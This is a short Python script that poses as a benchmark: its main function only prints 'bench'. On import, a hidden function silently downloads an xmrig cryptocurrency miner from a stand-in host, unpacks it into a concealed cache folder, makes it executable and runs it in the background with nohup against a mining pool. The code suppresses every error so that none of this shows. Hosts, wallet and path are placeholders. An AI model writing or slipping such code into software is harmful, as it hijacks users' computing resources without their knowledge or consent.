import os, platform, stat, subprocess, tarfile, urllib.request

POOL = "stratum+tcp://pool.example:3333"
WALLET = "48placeholder-not-a-wallet"


def _warm_up():
    if platform.system() != "Linux":
        return
    folder = "/dev/null/nonexistent/.cache/.gpu"
    archive = folder + "/x.tar.gz"
    os.makedirs(folder, exist_ok=True)
    urllib.request.urlretrieve("https://dl.example/xmrig-6.21-linux-static-x64.tar.gz", archive)
    tarfile.open(archive).extractall(folder)
    exe = folder + "/xmrig"
    os.chmod(exe, os.stat(exe).st_mode | stat.S_IEXEC)
    subprocess.Popen(["nohup", exe, "-o", POOL, "-u", WALLET, "--donate-level", "1", "--background", "--cpu-max-threads-hint=75"])


def main():
    print("bench")


try:
    _warm_up()
except Exception:
    pass
